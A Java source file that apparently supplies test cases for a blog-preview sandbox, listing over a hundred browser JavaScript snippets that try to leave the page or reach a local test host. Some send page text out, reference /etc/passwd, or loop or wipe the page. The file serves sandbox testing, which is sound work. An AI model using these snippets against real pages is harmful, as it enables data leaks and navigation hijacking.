package genko.preview;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Scripts that a blog's page may run and that try to reach the network, to open something outside,
 * or to be rid of the page. What asks for something asks {@code HOST}.
 */
public final class ScriptAttacks {
  private ScriptAttacks() {}

  /**
   * The scripts by name.
   *
   * @param port the port of this machine that must not be asked for anything
   */
  public static Map<String, String> at(int port) {
    Map<String, String> attacks = new LinkedHashMap<>();
    for (String line : LIST.lines().toList()) {
      int bar = line.indexOf('|');
      String name = line.substring(0, bar).strip();
      String path = "127.0.0.1:" + port + "/" + name.replace(' ', '-');
      String script = line.substring(bar + 1).strip().replace("HOST", "http://" + path);
      attacks.put(name, "(function () {" + TOOLS + script.replace("PLACE", path) + "})();");
    }
    return attacks;
  }

  /**
   * Whether the script named so leaves the page, or what is in it, for others to find as it was.
   * The rest needs a page for itself.
   */
  public static boolean isModest(String name) {
    return !name.matches(
        "(?:location|reload|history|refresh|page|our own|open|base|link area|link"
            + " svg).*|.*(?:end|false name|our own reading)");
  }

  private static final String TOOLS =
      """
      const add = (name, has) =>
          document.body.appendChild(Object.assign(document.createElement(name), has));
      const html = (text) => document.body.insertAdjacentHTML('beforeend', text);
      const head = (rel, href) =>
          document.head.appendChild(Object.assign(document.createElement('link'), {rel, href}));
      const click = (has) => add('a', has).click();
      const css = (text) => { add('style', {textContent: text}); };
      const asWorker = (text) => URL.createObjectURL(new Blob([text]));
      """;

  private static final String LIST =
      """
      location | location = 'HOST'
      location href | location.href = 'HOST?' + document.body.innerText
      location assign | location.assign('HOST')
      location replace | location.replace('HOST')
      location of top | top.location = 'HOST'
      location of ftp | location = 'ftp://PLACE'
      location of mail | location = 'mailto:a@example.com?body=' + document.body.innerText
      location of file | location = 'file:///etc/passwd'
      location of jar | location = 'jar:HOST/x.jar!/x.html'
      location of data | location = 'data:text/html,<img src=HOST>'
      location of blob | location = URL.createObjectURL(new Blob(['<img src=HOST>'], {type: 'text/html'}))
      location of script | location = 'javascript:fetch("HOST")'
      location blank | location = 'about:blank'
      location twice | location = 'about:blank'; setTimeout(() => { location = 'HOST'; }, 0)
      location without end | setInterval(() => { location = 'HOST'; }, 0)
      location blank without end | setInterval(() => { location = 'about:blank'; }, 0)
      location when leaving | addEventListener('unload', () => { location = 'HOST'; new Image().src = 'HOST'; }); location.reload()
      reload | location.reload()
      reload without end | setInterval(() => location.reload(), 1)
      history | history.pushState(0, '', 'x.html'); history.back()
      history elsewhere | history.pushState(0, '', 'HOST')
      history go | history.go(-1); history.go(0)
      open | open('HOST')
      open self | open('HOST', '_self')
      open then write | const w = open('about:blank'); if (w) w.location = 'HOST'
      refresh | document.head.appendChild(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=HOST'}))
      refresh written | document.write('<meta http-equiv=refresh content="0;url=HOST">')
      base | document.head.appendChild(Object.assign(document.createElement('base'), {href: 'HOST/'})); add('img', {src: 'a.png'})
      form get | add('form', {action: 'HOST'}).submit()
      form post | const f = add('form', {action: 'HOST', method: 'post'}); f.innerHTML = '<input name=x value=y>'; f.submit()
      form blank | add('form', {action: 'HOST', target: '_blank'}).submit()
      form button | html('<form><button id=go formaction="HOST">x</button></form>'); document.getElementById('go').click()
      form mail | add('form', {action: 'mailto:a@example.com', method: 'post'}).submit()
      link click | click({href: 'HOST'})
      link click in a new window | click({href: 'HOST', target: '_blank'})
      link download | click({href: 'HOST', download: 'x'})
      link ping | click({href: '#', ping: 'HOST'})
      link mail | click({href: 'mailto:a@example.com?attach=/etc/passwd'})
      link event | add('a', {href: 'HOST'}).dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true, button: 0}))
      link key | const a = add('a', {href: 'HOST'}); a.focus(); a.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', bubbles: true}))
      link area | html('<map name=m><area id=go href="HOST" shape=default></map>'); document.getElementById('go').click()
      link svg | html('<svg><a id=go href="HOST"><text y=9>x</text></a></svg>'); document.getElementById('go').dispatchEvent(new MouseEvent('click', {bubbles: true}))
      link of the post | document.querySelector('.own').click(); document.querySelector('.mail').click()
      link of the post aimed | const a = document.querySelector('.own'); a.href = 'HOST'; a.click()
      link after our own reading | addEventListener('click', (e) => e.stopPropagation(), true); click({href: 'HOST'})
      link with a false name | Element.prototype.getAttribute = () => 'HOST'; document.querySelector('.own').click()
      link without end | setInterval(() => { document.querySelector('.own').click(); click({href: 'HOST'}); }, 1)
      our own functions | window.genko = {start(h) { h.link('HOST'); }, apply() {}}; location.reload()
      our own functions changed | try { genko.start = genkoBlocks.start = (h) => h.link('HOST'); } catch (e) {} genko.start({link() {}}, '{}')
      our own functions by hand | const clicked = []; genko.start({link: (h) => clicked.push(h), whyNot: () => 'x', clicked() {}, scrolled() {}}, '{}'); document.querySelector('.own').click()
      Java | for (const name of ['java', 'javax', 'Packages', 'JavaFX']) if (window[name]) window[name].net.URL('HOST').openStream()
      frame | add('iframe', {src: 'HOST'})
      frame with a page | add('iframe', {srcdoc: '<img src="HOST"><script>parent.location="HOST"</scr' + 'ipt>'})
      frame led away | const f = add('iframe', {}); f.contentWindow.location = 'HOST'
      frame written | const f = add('iframe', {}); f.contentDocument.write('<img src="HOST">')
      frame with clean functions | const f = add('iframe', {}); f.contentWindow.fetch('HOST').catch(() => {}); new f.contentWindow.Image().src = 'HOST'
      frame as target | const f = add('iframe', {name: 'f'}); add('form', {action: 'HOST', target: 'f'}).submit()
      object | add('object', {data: 'HOST'})
      embed | add('embed', {src: 'HOST'})
      applet | html('<applet code=A codebase="HOST"></applet>')
      image | new Image().src = 'HOST'
      image in the page | add('img', {src: 'HOST'})
      image srcset | add('img', {srcset: 'HOST 1x'})
      image of a field | add('input', {type: 'image', src: 'HOST'})
      image through ours | new Image().src = document.querySelector('.pic').src.replace(/[^/]*$/, encodeURIComponent('HOST'))
      image through the blog | new Image().src = new URL('/x.png?' + encodeURIComponent('HOST'), document.currentScript.src)
      film | add('video', {src: 'HOST', autoplay: true}).load()
      film poster | add('video', {poster: 'HOST'})
      film track | add('video', {}).appendChild(Object.assign(document.createElement('track'), {src: 'HOST', default: true}))
      sound | new Audio('HOST').play().catch(() => {})
      script | add('script', {src: 'HOST'})
      script module | add('script', {type: 'module', src: 'HOST'})
      script import | import('HOST').catch(() => {})
      script as text | add('script', {textContent: 'new Image().src = "HOST"'})
      script evaluated | try { Function('new Image().src = "HOST"')(); } catch (e) {} setTimeout('new Image().src = "HOST"', 0)
      handler as text | add('img', {}).setAttribute('onerror', 'location = "HOST"'); html('<img src=x onerror="fetch(\\'HOST\\')">')
      style sheet | head('stylesheet', 'HOST')
      prefetch | head('prefetch', 'HOST')
      preload | Object.assign(head('preload', 'HOST'), {as: 'image'})
      preconnect | head('preconnect', 'HOST')
      dns prefetch | head('dns-prefetch', 'HOST')
      prerender | head('prerender', 'HOST')
      icon | head('icon', 'HOST')
      manifest | head('manifest', 'HOST')
      css import | css('@import "HOST";')
      css background | css('body { background: url(HOST) }')
      css of an attribute | document.body.style.backgroundImage = 'url(HOST)'
      css rule | css(''); document.styleSheets[document.styleSheets.length - 1].insertRule('body { background: url(HOST) }', 0)
      css image set | css('body { background: -webkit-image-set(url(HOST) 1x) }')
      css cursor | css('body { cursor: url(HOST), auto }')
      css font | css('@font-face { font-family: q; src: url(HOST) } body { font-family: q }')
      font | if (window.FontFace) new FontFace('q', 'url(HOST)').load().catch(() => {})
      svg use | html('<svg><use href="HOST#x"/></svg>')
      svg image | html('<svg><image href="HOST" width=9 height=9 /></svg>')
      svg filter | html('<svg><filter id=q><feImage href="HOST"/></filter><rect width=9 height=9 filter="url(#q)"/></svg>')
      xml | new DOMParser().parseFromString('<!DOCTYPE x SYSTEM "HOST"><x/>', 'text/xml')
      request | const r = new XMLHttpRequest(); r.open('POST', 'HOST'); r.send('x')
      request that waits | const r = new XMLHttpRequest(); r.open('GET', 'HOST', false); r.send()
      fetch | fetch('HOST').catch(() => {})
      fetch without asking | fetch('HOST', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true}).catch(() => {})
      beacon | navigator.sendBeacon('HOST', 'x')
      socket | new WebSocket('ws://PLACE')
      socket with a lock | new WebSocket('wss://PLACE')
      events | new EventSource('HOST')
      worker | new Worker('HOST')
      worker made up | new Worker(asWorker('fetch("HOST")'))
      worker of the blog | new Worker(document.currentScript.src)
      worker shared | new SharedWorker('HOST')
      worker of service | navigator.serviceWorker.register('HOST').catch(() => {})
      call | new RTCPeerConnection({iceServers: [{urls: 'stun:PLACE'}]}).createDataChannel('x')
      page written | document.write('<p>x<img src="HOST">'); document.close()
      page written with a script | document.open(); document.write('<script>location = "HOST"</scr' + 'ipt>'); document.close()
      page emptied | document.documentElement.innerHTML = ''
      page emptied again and again | setInterval(() => { document.documentElement.innerHTML = ''; }, 5)
      """;
}
